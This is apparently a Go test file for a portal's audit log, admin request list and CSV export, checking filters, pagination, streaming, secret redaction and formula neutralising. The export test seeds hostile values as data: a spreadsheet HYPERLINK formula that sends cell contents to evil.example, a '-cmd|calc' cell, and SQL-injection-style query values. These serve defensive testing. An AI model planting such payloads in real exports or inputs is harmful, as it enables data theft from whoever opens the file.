package handlers_test

import (
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/PuerkitoBio/goquery"

	"github.com/kvportal/kvportal/domain"
	"github.com/kvportal/kvportal/internal/testfix"
	"github.com/kvportal/kvportal/internal/webtest"
	"github.com/kvportal/kvportal/store"
)

// seedEvents adds n events in one statement: requests of u (one in ten in
// cn-shanghai, request 7 with the InstanceId r-needle), each with a
// submitted event three days old, then n - requests approvals by appr today.
func seedEvents(e *webtest.Env, u, appr store.User, requests, n int) {
	e.T.Helper()
	ctx := context.Background()
	if _, err := e.St.Pool().Exec(ctx, `
		WITH r AS (
			INSERT INTO requests (requester_id, token, instance_class, region_id, charge_type, network_type,
				instance_type, engine_version, instance_id)
			SELECT $1, 'seed-' || g, $3::text,
				CASE WHEN g % 10 = 0 THEN 'cn-shanghai' ELSE 'cn-hangzhou' END, 'PostPaid', 'Classic', 'Redis', '2.8',
				CASE WHEN g = 7 THEN 'r-needle' ELSE '' END
			FROM generate_series(1, $2::int) g RETURNING id)
		INSERT INTO audit_events (actor_id, action, request_id, at, details)
		SELECT $1, 'request.submitted', id, now() - interval '3 days', jsonb_build_object('InstanceClass', $3::text) FROM r`,
		u.ID, requests, testfix.InstanceClass); err != nil {
		e.T.Fatal(err)
	}
	if _, err := e.St.Pool().Exec(ctx, `
		INSERT INTO audit_events (actor_id, action, request_id, details)
		SELECT $1, 'request.approved', (SELECT min(id) FROM requests) + g % $2::int, '{"note": "seeded"}'
		FROM generate_series(1, $3::int) g`, appr.ID, requests, n-requests); err != nil {
		e.T.Fatal(err)
	}
}

// walk follows the Older links of a list from path, returning the ids of
// every row (attribute attr) and the number of pages.
func walk(t *testing.T, c *webtest.Client, path, rowSel, attr string) (ids []string, pages int) {
	t.Helper()
	for path != "" {
		r := c.Get(path)
		if r.Status != http.StatusOK {
			t.Fatalf("GET %s: %d", path, r.Status)
		}
		pages++
		r.Doc.Find(rowSel).Each(func(_ int, s *goquery.Selection) {
			v, _ := s.Attr(attr)
			ids = append(ids, v)
		})
		path, _ = r.Doc.Find(`.pagination a[rel="next"]`).Attr("href")
		if path != "" && (!strings.Contains(path, "before=") || strings.Contains(path, "offset")) {
			t.Fatalf("next page %q is not a keyset link", path)
		}
	}
	return ids, pages
}

func TestAuditFiltersAndPages(t *testing.T) {
	t.Parallel()
	e := webtest.New(t)
	adm, admUser := e.SignedIn("adm", domain.RoleAdmin)
	dev := e.User("dev", domain.RoleRequester)
	appr := e.User("appr", domain.RoleApprover)
	seedEvents(e, dev, appr, 1000, 3000)

	// Every page of approvals, newest first, no repeats, 50 a page.
	ids, pages := walk(t, adm, "/audit?action=request.approved", "tr[data-event-id]", "data-event-id")
	if len(ids) != 2000 || pages != 40 {
		t.Fatalf("approvals: %d events on %d pages", len(ids), pages)
	}
	seen := map[string]bool{}
	for i, id := range ids {
		if seen[id] || (i > 0 && len(id) == len(ids[i-1]) && id >= ids[i-1]) {
			t.Fatalf("event %s repeated or out of order", id)
		}
		seen[id] = true
	}

	count := func(query string) int {
		t.Helper()
		r := adm.Get("/audit?" + query)
		if r.Status != http.StatusOK {
			t.Fatalf("/audit?%s: %d", query, r.Status)
		}
		n := r.Doc.Find("tr[data-event-id]").Length()
		if n == 50 { // more than a page: count through the store instead
			ids, _ := walk(t, adm, "/audit?"+query, "tr[data-event-id]", "data-event-id")
			n = len(ids)
		}
		return n
	}
	today := time.Now().UTC().Format(time.DateOnly)
	threeDaysAgo := time.Now().UTC().AddDate(0, 0, -3).Format(time.DateOnly)
	cases := map[string]int{
		"actor=dev":                                    1000,
		"actor=appr&action=request.approved":           2000,
		"actor=nobody":                                 0,
		"instance=r-needle":                            3, // submitted, and approved twice (g % 1000 = 6)
		"region=cn-shanghai&action=request.submitted":  100,
		"from=" + today:                                2000 + 1 + 3, // the approvals, adm's sign-in, the users created
		"to=" + threeDaysAgo + "&from=" + threeDaysAgo: 1000,
		"actor=system":                                 3, // the users, created from the command line
		"action=auth.login":                            1,
	}
	for q, want := range cases {
		if got := count(q); got != want {
			t.Errorf("/audit?%s: %d events, want %d", q, got, want)
		}
	}
	// A request's events link to it; the actor is named.
	r := adm.Get("/audit?instance=r-needle")
	r.Doc.Find("tr[data-event-id]").Each(func(_ int, s *goquery.Selection) {
		if href, _ := s.Find(`a[href^="/requests/"]`).Attr("href"); href == "" {
			t.Error("an event without its request link")
		}
	})
	if got := r.Doc.Find(`tr[data-action="request.submitted"] [data-testid="actor"]`).Text(); got != "dev" {
		t.Errorf("submitted by %q", got)
	}
	if exp, _ := r.Doc.Find(`[data-testid="export"]`).Attr("href"); exp != "/audit/export.csv?instance=r-needle" {
		t.Errorf("export link %q", exp)
	}
	// The sign-in is readable.
	if got := adm.Get("/audit?action=auth.login").Doc.Find("tr[data-event-id] td.what").Text(); !strings.Contains(got, "signed in") {
		t.Errorf("sign-in shown as %q", got)
	}
	_ = admUser

	// Bad values: an error beside the field, never a 500.
	bad := map[string]string{
		"request=abc": "request", "request=-1": "request", "request=99999999999999999999": "request",
		"from=yesterday": "from", "to=2025-13-01": "to", "from=2025-02-02&to=2025-02-01": "to",
		"action=drop.table": "action", "actor=Robert%27%29%3B": "actor", "actor=%00": "actor",
		"instance=%ff%fe": "instance", "region=" + strings.Repeat("x", 200): "region", "instance=a%E2%80%AEb": "instance",
	}
	for q, field := range bad {
		r := adm.Get("/audit?" + q)
		if r.Status != http.StatusUnprocessableEntity || r.Doc.Find("#err-"+field).Length() != 1 {
			t.Errorf("/audit?%s: %d, error on %s: %d", q, r.Status, field, r.Doc.Find("#err-"+field).Length())
		}
		if r := adm.Get("/audit/export.csv?" + q); r.Status != http.StatusUnprocessableEntity {
			t.Errorf("/audit/export.csv?%s: %d", q, r.Status)
		}
	}
	for _, q := range []string{"before=abc", "before=-5", "before=0", "action=", "before=99999999999999999999"} {
		if r := adm.Get("/audit?" + q); r.Status != http.StatusOK {
			t.Errorf("/audit?%s: %d", q, r.Status)
		}
	}
}

func TestAdminRequestList(t *testing.T) {
	t.Parallel()
	e := webtest.New(t)
	adm, _ := e.SignedIn("adm", domain.RoleAdmin)
	dev := e.User("dev", domain.RoleRequester)
	ops := e.User("ops", domain.RoleRequester)
	appr := e.User("appr", domain.RoleApprover)
	seedEvents(e, dev, appr, 120, 120)
	mine := e.Request(ops)
	failed := e.FailedRequest(ops, appr)

	ids, pages := walk(t, adm, "/admin/requests", "tr[data-request-id]", "data-request-id")
	if len(ids) != 122 || pages != 3 { // 50 rows a page
		t.Fatalf("all requests: %d on %d pages", len(ids), pages)
	}
	r := adm.Get("/admin/requests?requester=ops")
	if r.Doc.Find("tr[data-request-id]").Length() != 2 || r.Doc.Find(`th:contains("Requester")`).Length() != 1 {
		t.Errorf("ops's requests: %d rows", r.Doc.Find("tr[data-request-id]").Length())
	}
	if href, _ := r.Doc.Find(`tr[data-request-id="` + webtest.Itoa(mine.ID) + `"] a`).First().Attr("href"); href != "/requests/"+webtest.Itoa(mine.ID) {
		t.Errorf("row links to %q", href)
	}
	today := time.Now().UTC().Format(time.DateOnly)
	for q, want := range map[string]int{
		"status=failed": 1, "status=failed&requester=dev": 0, "instance=r-needle": 1, "region=cn-shanghai": 12,
		"type=Memcache": 0, "type=Redis&requester=ops": 2, "from=" + today + "&to=" + today: 122, "to=2001-01-01": 0,
	} {
		if got := len(first(walk(t, adm, "/admin/requests?"+q, "tr[data-request-id]", "data-request-id"))); got != want {
			t.Errorf("/admin/requests?%s: %d, want %d", q, got, want)
		}
	}
	if got, _ := adm.Get("/admin/requests?status=failed").Doc.Find(`tr[data-request-id] [data-status]`).Attr("data-status"); got != "failed" {
		t.Errorf("failed row shows %q", got)
	}
	_ = failed
	for q, field := range map[string]string{"status=bogus": "status", "requester=A%20B": "requester", "type=Postgres": "type",
		"from=31/12/2024": "from", "instance=%00": "instance"} {
		r := adm.Get("/admin/requests?" + q)
		if r.Status != http.StatusUnprocessableEntity || r.Doc.Find("#err-"+field).Length() != 1 {
			t.Errorf("/admin/requests?%s: %d", q, r.Status)
		}
	}
}

func first(ids []string, _ int) []string { return ids }

// The CSV export: header, one row per event, correct quoting, formulas
// neutralised in every cell, nothing secret.
func TestAuditExportCSV(t *testing.T) {
	t.Parallel()
	e := webtest.New(t)
	adm, _ := e.SignedIn("adm", domain.RoleAdmin)
	dev := e.User("dev", domain.RoleRequester)
	ctx := context.Background()
	// Values no form lets through, written straight into the tables.
	nasty := `=HYPERLINK("http://evil.example/?"&A1,"click, here")`
	region := "+cn-\"hang\",\nzhou"
	var reqID int64
	if err := e.St.Pool().QueryRow(ctx, `INSERT INTO requests (requester_id, token, instance_class, region_id, charge_type,
		network_type, instance_type, engine_version, instance_id) VALUES ($1, 'tok', 'c', $2, 'PostPaid', 'Classic', 'Redis', '2.8', $3)
		RETURNING id`, dev.ID, region, nasty).Scan(&reqID); err != nil {
		t.Fatal(err)
	}
	details := map[string]any{"name": "a,b \"c\"\nd", "formula": "@SUM(A1:A9)", "password": "hunter2-secret"}
	b, _ := json.Marshal(details)
	if _, err := e.St.Pool().Exec(ctx, `INSERT INTO audit_events (actor_id, action, request_id, details) VALUES
		($1, '-cmd|calc', $2, $3), (NULL, '@action', NULL, '{}'), (NULL, E'\tTab', NULL, '{}')`, dev.ID, reqID, b); err != nil {
		t.Fatal(err)
	}
	resp, err := adm.HTTP.Get(e.Srv.URL + "/audit/export.csv")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != 200 || resp.Header.Get("Content-Type") != "text/csv; charset=utf-8" {
		t.Fatalf("export: %d %q", resp.StatusCode, resp.Header.Get("Content-Type"))
	}
	if cd := resp.Header.Get("Content-Disposition"); cd != `attachment; filename="kvportal-audit-`+time.Now().UTC().Format("2006-01-02")+`.csv"` {
		t.Errorf("Content-Disposition %q", cd)
	}
	raw, _ := io.ReadAll(resp.Body)
	if strings.Contains(string(raw), "hunter2") {
		t.Error("the export holds a password")
	}
	rows, err := csv.NewReader(strings.NewReader(string(raw))).ReadAll()
	if err != nil {
		t.Fatalf("parse: %v\n%s", err, raw)
	}
	if strings.Join(rows[0], ",") != "id,at,actor,action,request_id,instance_id,region_id,details,team,kind" {
		t.Errorf("header %q", rows[0])
	}
	if len(rows) != 1+e.CountAllEvents() {
		t.Errorf("%d rows for %d events", len(rows)-1, e.CountAllEvents())
	}
	byAction := map[string][]string{}
	for _, r := range rows[1:] {
		if len(r) != 10 {
			t.Fatalf("row of %d cells: %q", len(r), r)
		}
		byAction[r[3]] = r
		if _, err := time.Parse(time.RFC3339, r[1]); err != nil || !strings.HasSuffix(r[1], "Z") {
			t.Errorf("time %q", r[1])
		}
		for i, cell := range r {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %d %q is a formula", i, cell)
			}
		}
	}
	got := byAction["'-cmd|calc"]
	if got == nil {
		t.Fatalf("no neutralised action among %v", rows)
	}
	want := []string{got[0], got[1], "dev", "'-cmd|calc", webtest.Itoa(reqID), "'" + nasty, "'" + region, got[7]}
	for i := range want {
		if got[i] != want[i] {
			t.Errorf("cell %d: %q, want %q", i, got[i], want[i])
		}
	}
	var d map[string]any
	if err := json.Unmarshal([]byte(got[7]), &d); err != nil || d["name"] != details["name"] || d["formula"] != "@SUM(A1:A9)" || d["password"] != "[redacted]" {
		t.Errorf("details %q: %v", got[7], err)
	}
	if r := byAction["'@action"]; r == nil || r[2] != "system" || r[4] != "" {
		t.Errorf("system event %q", r)
	}
	if byAction["'\tTab"] == nil {
		t.Error("tab cell not neutralised")
	}
	// The page shows the same events without the secret.
	if page := adm.Get("/audit"); strings.Contains(page.Body, "hunter2") || !strings.Contains(page.Body, "[redacted]") {
		t.Error("the audit page shows a secret")
	}
}

// flushGate is a ResponseWriter that holds the handler at its second flush
// until released, counting what was written before.
type flushGate struct {
	http.ResponseWriter
	flushes atomic.Int64
	written atomic.Int64
	held    chan struct{}
	release chan struct{}
}

func (g *flushGate) Write(b []byte) (int, error) {
	g.written.Add(int64(len(b)))
	return g.ResponseWriter.Write(b)
}

func (g *flushGate) Flush() {
	g.ResponseWriter.(http.Flusher).Flush()
	if g.flushes.Add(1) == 2 {
		close(g.held)
		<-g.release
	}
}

// A large export streams: the first rows reach the client while the
// handler is still working through the rest (held here at its second
// flush), and every row arrives intact.
func TestAuditExportStreams(t *testing.T) {
	t.Parallel()
	e := webtest.New(t)
	adm, _ := e.SignedIn("adm", domain.RoleAdmin)
	dev := e.User("dev", domain.RoleRequester)
	appr := e.User("appr", domain.RoleApprover)
	const total = 50000
	seedEvents(e, dev, appr, 5000, total)
	before := e.CountAllEvents()

	var gate *flushGate
	var mu sync.Mutex
	done := make(chan struct{})
	wrapped := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		g := &flushGate{ResponseWriter: w, held: make(chan struct{}), release: make(chan struct{})}
		mu.Lock()
		gate = g
		mu.Unlock()
		defer close(done)
		e.Srv.Config.Handler.ServeHTTP(g, r)
	}))
	defer wrapped.Close()

	resp, err := adm.HTTP.Get(wrapped.URL + "/audit/export.csv")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	br := bufio.NewReader(resp.Body)
	header, err := br.ReadString('\n')
	if err != nil || header != "id,at,actor,action,request_id,instance_id,region_id,details,team,kind\n" {
		t.Fatalf("header %q %v", header, err)
	}
	if _, err := br.ReadString('\n'); err != nil {
		t.Fatal(err)
	}
	mu.Lock()
	g := gate
	mu.Unlock()
	select {
	case <-g.held:
	case <-time.After(30 * time.Second):
		t.Fatal("the handler never flushed twice")
	}
	select {
	case <-done:
		t.Fatal("the handler finished before the client read its first rows")
	default:
	}
	if w := g.written.Load(); w > 1<<20 {
		t.Errorf("%d bytes written before the second flush: not streaming", w)
	}
	close(g.release)
	rows, err := csv.NewReader(br).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	<-done
	if len(rows)+1 != before { // the first row was read above
		t.Errorf("%d rows, want %d", len(rows)+1, before)
	}
	if g.flushes.Load() < total/1000 {
		t.Errorf("only %d flushes for %d rows", g.flushes.Load(), total)
	}
}

// A failed sign-in is a visitor's, not KVPortal's: the audit trail files it
// under the username tried, never under system.
func TestFailedSignInInAudit(t *testing.T) {
	t.Parallel()
	e := webtest.New(t)
	adm, _ := e.SignedIn("adm", domain.RoleAdmin)
	e.User("dev", domain.RoleRequester)
	c := e.Client()
	c.Get("/login")
	c.Post("/login", url.Values{"username": {"dev"}, "password": {"not-the-password"}})
	row := func(query string) (n int, actor string) {
		t.Helper()
		r := adm.Get("/audit?" + query)
		rows := r.Doc.Find(`tr[data-action="` + domain.ActionLoginFailed + `"]`)
		return rows.Length(), strings.TrimSpace(rows.First().Find(`[data-testid="actor"]`).Text())
	}
	if n, actor := row("actor=dev"); n != 1 || actor != "visitor" {
		t.Errorf("actor=dev: %d failed sign-ins, actor %q", n, actor)
	}
	if n, _ := row("actor=system"); n != 0 {
		t.Errorf("actor=system lists %d failed sign-ins", n)
	}
	if n, _ := row("actor=adm"); n != 0 {
		t.Errorf("actor=adm lists %d failed sign-ins", n)
	}
}

// The server's write timeout is meant for pages; an export of a large audit
// trail to a slow reader outlasts it, and must still arrive whole: the
// export moves its write deadline on as it flushes.
func TestAuditExportOutlastsTheWriteTimeout(t *testing.T) {
	t.Parallel()
	e := webtest.New(t)
	adm, _ := e.SignedIn("adm", domain.RoleAdmin)
	dev := e.User("dev", domain.RoleRequester)
	appr := e.User("appr", domain.RoleApprover)
	seedEvents(e, dev, appr, 2000, 60000)
	want := e.CountAllEvents()

	short := httptest.NewUnstartedServer(e.Srv.Config.Handler)
	short.Config.WriteTimeout = 200 * time.Millisecond
	short.Start()
	defer short.Close()
	resp, err := adm.HTTP.Get(short.URL + "/audit/export.csv")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	// A slow reader: it looks away for longer than the write timeout while
	// the export fills the connection's buffers, then reads.
	time.Sleep(4 * short.Config.WriteTimeout)
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatalf("after %d bytes: %v", len(body), err)
	}
	rows, err := csv.NewReader(bytes.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("%d bytes: %v", len(body), err)
	}
	if len(rows)-1 != want {
		t.Errorf("%d rows in %d bytes, want %d", len(rows)-1, len(body), want)
	}
}
